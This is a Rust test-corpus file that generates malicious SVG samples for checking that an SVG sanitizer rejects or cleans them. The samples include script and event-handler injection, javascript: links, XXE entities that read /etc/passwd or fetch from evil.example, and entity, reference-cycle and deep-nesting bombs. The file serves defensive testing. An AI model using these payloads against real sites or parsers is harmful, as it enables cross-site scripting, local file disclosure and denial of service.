//! SVG files with attacks: each must be rejected, or served without anything harmful.

/// A marker in most of the parts that must be removed. It may remain only in ids. The other parts are recognised by
/// their elements, attributes and addresses.
pub const CANARY: &str = "CANARY0815";

/// Attacks as content of an SVG that is valid without them.
const INSIDE: [&str; 79] = [
    // Scripts.
    "<script>alert('CANARY0815')</script>",
    "<script type='text/javascript'><![CDATA[alert('CANARY0815')]]></script>",
    "<script href='//evil.example/CANARY0815.js'/>",
    "<script xlink:href='data:text/javascript,alert(1)'/>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>CANARY0815</s:script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>CANARY0815</h:script>",
    "<SCRIPT>CANARY0815</SCRIPT>",
    "<defs><script>CANARY0815</script></defs>",
    "<g><g><switch><script>CANARY0815</script></switch></g></g>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>CANARY0815</handler>",
    "<listener event='load' handler='#CANARY0815'/>",
    // Event handlers.
    "<g onload='alert(1)'><path d='M0 0h9v9z' onclick='alert(1)'/></g>",
    "<path d='M0 0h9v9z' ONLOAD='CANARY0815' onmouseover='CANARY0815' onfocus='CANARY0815'/>",
    "<path d='M0 0h9v9z' onbegin='CANARY0815' onend='CANARY0815' onrepeat='CANARY0815'/>",
    "<g tabindex='1' autofocus='' onfocusin='CANARY0815'><path d='M0 0h9v9z'/></g>",
    "<path d='M0 0h9v9z' evil:onload='CANARY0815' xmlns:evil='http://www.w3.org/2000/svg'/>",
    // Animations that set forbidden attributes.
    "<path id='p' d='M0 0h9v9z'><set attributeName='onmouseover' to='CANARY0815'/></path>",
    "<path d='M0 0h9v9z'><animate attributeName='href' values='javascript:CANARY0815'/></path>",
    "<a><animate attributeName='xlink:href' to='javascript:CANARY0815'/><path d='M0 0h9v9z'/></a>",
    "<animate onbegin='CANARY0815' attributeName='x' dur='1s'/>",
    "<animateTransform attributeName='transform' onend='CANARY0815'/><animateMotion path='CANARY0815'/>",
    "<discard begin='0s' href='#CANARY0815'/>",
    // Links.
    "<a href='javascript:CANARY0815'><path d='M0 0h9v9z'/></a>",
    "<a xlink:href='javascript:CANARY0815'><path d='M0 0h9v9z'/></a>",
    "<a xlink:href='  java&#10;script:CANARY0815'><path d='M0 0h9v9z'/></a>",
    "<a href='data:text/html,CANARY0815' target='_top'><path d='M0 0h9v9z'/></a>",
    "<a href='https://evil.example/CANARY0815' ping='https://evil.example/'><path d='M0 0h9v9z'/></a>",
    // Embedded documents.
    "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'>CANARY0815</body></foreignObject>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:CANARY0815'/></foreignObject>",
    "<switch><foreignObject requiredExtensions='x'>CANARY0815</foreignObject><path d='M0 0h9v9z'/></switch>",
    "<ForeignObject>CANARY0815</ForeignObject><foreignobject>CANARY0815</foreignobject>",
    "<iframe src='https://evil.example/CANARY0815'/><object data='CANARY0815'/><embed src='CANARY0815'/>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='CANARY0815'/>",
    "<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=//CANARY0815'/>",
    "<form xmlns='http://www.w3.org/1999/xhtml' action='//CANARY0815'><input autofocus='' onfocus='x'/></form>",
    "<video xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='CANARY0815'/><audio href='CANARY0815'/>",
    "<html xmlns='http://www.w3.org/1999/xhtml'><body onload='CANARY0815'/></html>",
    "<metadata><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>CANARY0815</rdf:RDF></metadata>",
    "<title>CANARY0815</title><desc>CANARY0815</desc>",
    // Files and images from other places.
    "<image href='file:///etc/passwd'/>",
    "<image xlink:href='/etc/passwd' width='9' height='9'/>",
    "<image href='../../../../../../etc/hostname'/>",
    "<image href='https://evil.example/CANARY0815.png'/>",
    "<image href='//evil.example/CANARY0815.png' width='9' height='9'/>",
    "<image href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='/>",
    "<image href='data:image/svg+xml,%3Csvg onload=CANARY0815%3E'/>",
    "<image href='data:text/html,CANARY0815'/>",
    "<image href='data:image/png;base64,iVBORw0KGgo='/>",
    "<filter id='f'><feImage href='file:///etc/passwd'/></filter><path filter='url(#f)' d='M0 0h9v9z'/>",
    "<filter id='f'><feImage href='https://evil.example/CANARY0815'/></filter><path filter='url(#f)' d='M0 0h9v9z'/>",
    "<use href='https://evil.example/CANARY0815.svg#x'/>",
    "<use xlink:href='data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x'/>",
    "<use href='file:///etc/passwd#x'/><use href='CANARY0815.svg#x'/>",
    "<tref xlink:href='/etc/passwd#x'/><cursor xlink:href='CANARY0815'/>",
    "<font-face><font-face-src><font-face-uri xlink:href='CANARY0815'/></font-face-src></font-face>",
    "<color-profile xlink:href='https://evil.example/CANARY0815'/><mpath href='CANARY0815'/>",
    "<linearGradient id='l' xlink:href='https://evil.example/CANARY0815#l'/><path fill='url(#l)' d='M0 0h9v9z'/>",
    "<pattern id='p' xlink:href='file:///etc/passwd#p'/><path fill='url(#p)' d='M0 0h9v9z'/>",
    // Styles.
    "<style>@import url(https://evil.example/CANARY0815.css);</style>",
    "<style>@import 'file:///etc/passwd';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/CANARY0815)}</style>",
    "<style>path{fill:url(https://evil.example/CANARY0815#x)}</style><path d='M0 0h9v9z'/>",
    "<style>path{background:url(javascript:CANARY0815);behavior:url(CANARY0815)}</style>",
    "<style>path{fill:expression(CANARY0815)}</style><path d='M0 0h9v9z'/>",
    "<style>*{-moz-binding:url(https://evil.example/CANARY0815#x)}</style>",
    "<style></style><style><![CDATA[</style><script>CANARY0815</script>]]></style>",
    "<style>path{filter:url('https://evil.example/CANARY0815#f');mask:url(//CANARY0815)}</style><path d='M0 0h9v9z'/>",
    "<path style='fill:url(javascript:CANARY0815)' d='M0 0h9v9z'/>",
    "<path style='cursor:url(https://evil.example/CANARY0815),auto;fill:red' d='M0 0h9v9z'/>",
    "<path style='--x:url(//CANARY0815);width:expression(CANARY0815)' d='M0 0h9v9z'/>",
    "<path fill='url(https://evil.example/CANARY0815#x)' d='M0 0h9v9z'/>",
    "<path clip-path='url(https://evil.example/CANARY0815#x)' d='M0 0h9v9z'/>",
    "<path filter='url(file:///etc/passwd#x)' marker-end='url(//CANARY0815#x)' d='M0 0h9v9z'/>",
    "<style type='text/css' xmlns='http://www.w3.org/1999/xhtml'>@import '//CANARY0815';</style>",
    // Ids that break out of the attribute.
    "<path id='x&quot; onload=&quot;CANARY0815' d='M0 0h9v9z'/>",
    "<g id='&quot;/>&lt;script>CANARY0815&lt;/script>'><path d='M0 0h9v9z'/></g>",
    "<clipPath id='&amp;quot;>&lt;'><path d='M0 0h9v9z'/></clipPath><path clip-path='url(#&amp;quot;>&lt;)' d='M0 0h9v9z'/>",
    // Text.
    "<text>CANARY0815</text>",
    "<text><tspan>&#67;ANARY0815</tspan><textPath href='javascript:CANARY0815'>x</textPath></text>",
];

/// Attacks that are whole files.
const WHOLE: [&str; 27] = [
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><path id='&x;' d='M0 0h9v9z'/></svg>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'https://evil.example/CANARY0815'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;<path d='M0 0h9v9z'/></svg>",
    "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'file:///etc/passwd'> %x;]><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>",
    "<!DOCTYPE svg PUBLIC 'x' 'https://evil.example/CANARY0815.dtd'><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>",
    "<!DOCTYPE svg [<!ENTITY x '<script>CANARY0815</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;<path d='M0 0h9v9z'/></svg>",
    "<!DOCTYPE svg [<!ENTITY x \"javascript:CANARY0815\">]><svg xmlns='http://www.w3.org/2000/svg'><a href='&x;'><path d='M0 0h9v9z'/></a></svg>",
    "<!DOCTYPE svg [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
    "<!DOCTYPE svg [<!ATTLIST path onload CDATA 'CANARY0815'>]><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>",
    "<?xml-stylesheet href='https://evil.example/CANARY0815.css'?><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>",
    "<?xml-stylesheet type='text/xsl' href='#CANARY0815'?><svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='CANARY0815'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xml:base='https://evil.example/CANARY0815/'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:evil='javascript:CANARY0815'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><svg onload='CANARY0815'><path d='M0 0h9v9z'/></svg></svg>",
    "<svg><path d='M0 0h9v9z'/><script>CANARY0815</script></svg>",
    "<svg xmlns='http://www.w3.org/1999/xhtml'><script>CANARY0815</script></svg>",
    "<svg onload=CANARY0815><path d=M0></svg>",
    "<svg/onload='CANARY0815'>",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg><script>CANARY0815</script>",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9z'/></svg><!--CANARY0815--><?php CANARY0815 ?>",
    "<!--<svg>--><html xmlns='http://www.w3.org/1999/xhtml'><script>CANARY0815</script></html>",
    "<!--CANARY0815--><svg xmlns='http://www.w3.org/2000/svg'><!--CANARY0815--><path d='M0 0h9v9z'/></svg>",
    "<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-CANARY0815<path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='1e38' height='1e38'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='-9' height='0'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 NaN Infinity'><path d='M0 0h9v9z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='999999999px' viewBox='0 0 1e30 1e-30'><path d='M0 0h1e30v9z'/></svg>",
];

/// Returns a valid SVG that contains `inside`.
pub fn svg(inside: &str) -> String {
    format!(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='100' height='100'>\
         <path d='M0 0h50v50z' fill='#ff0000'/>{inside}</svg>"
    )
}

/// Joins the elements `link(0)`, `link(1)` … for this many levels, and then `last`. The callers' elements each refer
/// ten times to the element of the next level.
fn fan_out(levels: usize, link: impl Fn(usize) -> String, last: &str) -> String {
    (0..levels).map(link).collect::<String>() + last
}

/// Returns files that are costly to process: they expand, refer to themselves, nest deeply, or have very many elements
/// or selectors.
fn bombs() -> Vec<String> {
    let entities: String =
        (1..10).map(|n| format!("<!ENTITY e{n} '{}'>", format!("&e{};", n - 1).repeat(10))).collect();
    let laughs = format!(
        "<!DOCTYPE svg [<!ENTITY e0 'CANARY0815'>{entities}]><svg xmlns='http://www.w3.org/2000/svg'><g>&e9;</g></svg>"
    );
    let quadratic = format!(
        "<!DOCTYPE svg [<!ENTITY e '{}'>]><svg xmlns='http://www.w3.org/2000/svg'><g id='{}'/></svg>",
        "x".repeat(3_000),
        "&e;".repeat(20_000)
    );
    let ten = |n: usize, tag: &str| tag.repeat(10).replace('#', &format!("#n{}", n + 1));
    let uses =
        fan_out(9, |n| format!("<g id='n{n}'>{}</g>", ten(n, "<use href='#'/>")), "<path id='n9' d='M0 0h9v9z'/>");
    let patterns = fan_out(
        12,
        |n| {
            format!(
                "<pattern id='n{n}' width='9' height='9'>{}</pattern>",
                ten(n, "<path fill='url(#)' d='M0 0h9v9z'/>")
            )
        },
        "<path fill='url(#n0)' d='M0 0h9v9z'/>",
    );
    let masks = fan_out(
        12,
        |n| format!("<mask id='n{n}'>{}</mask>", ten(n, "<path mask='url(#)' d='M0 0h9v9z'/>")),
        "<path mask='url(#n0)' d='M0 0h9v9z'/>",
    );
    // Three elements, each of which refers to the next one, and the last to the first.
    let cycle = |tag: &str, attribute: &str| {
        let next = |n: usize| (n + 1) % 3;
        let one = |n| format!("<{tag} id='c{n}'><path d='M0 0h9v9z' {attribute}='url(#c{})'/></{tag}>", next(n));
        (0..3).map(one).collect::<String>() + &format!("<path d='M0 0h9v9z' {attribute}='url(#c0)'/>")
    };
    let marked = format!(
        "<marker id='m'>{}</marker><path marker-mid='url(#m)' d='M0 0{}'/>",
        "<path d='M0 0h9v9z'/>".repeat(1000),
        "h1v1".repeat(100_000)
    );
    let dashes = format!("<path stroke='red' stroke-dasharray='0.000001' d='M0 0{}'/>", "h1e6v1e6".repeat(1000));
    let deep =
        |tag: &str, n: usize| format!("<{tag}>").repeat(n) + "<path d='M0 0h9v9z'/>" + &format!("</{tag}>").repeat(n);
    let rules = format!(
        "<style>{}</style>{}",
        "g g g g g > g ~ g path{fill:red}".repeat(5_000),
        "<g><g><path d='M0 0h9v9z'/></g></g>".repeat(5_000)
    );
    let inside = [
        uses,
        patterns,
        masks,
        cycle("pattern", "fill"),
        cycle("mask", "mask"),
        cycle("clipPath", "clip-path"),
        cycle("marker", "marker-end"),
        "<g id='u'><use href='#u'/></g>".into(),
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>".into(),
        "<filter id='f'><feImage href='#g'/></filter><g id='g' filter='url(#f)'><use href='#g'/></g>".into(),
        marked,
        dashes,
        rules,
        deep("g", 101),
        deep("svg", 200),
        deep("g", 100_000),
        deep("switch", 5_000),
        "<path d='M0 0h9v9z'/>".repeat(60_000),
        "<linearGradient id='a' href='#b'/><linearGradient id='b' href='#a'/><path fill='url(#a)' d='M0 0h9v9z'/>"
            .into(),
    ];
    inside.iter().map(|inside| svg(inside)).chain([laughs, quadratic]).collect()
}

/// Returns all files of the corpus.
pub fn all() -> Vec<String> {
    let whole = WHOLE.iter().map(|whole| (*whole).to_owned());
    INSIDE.iter().map(|inside| svg(inside)).chain(whole).chain(bombs()).collect()
}
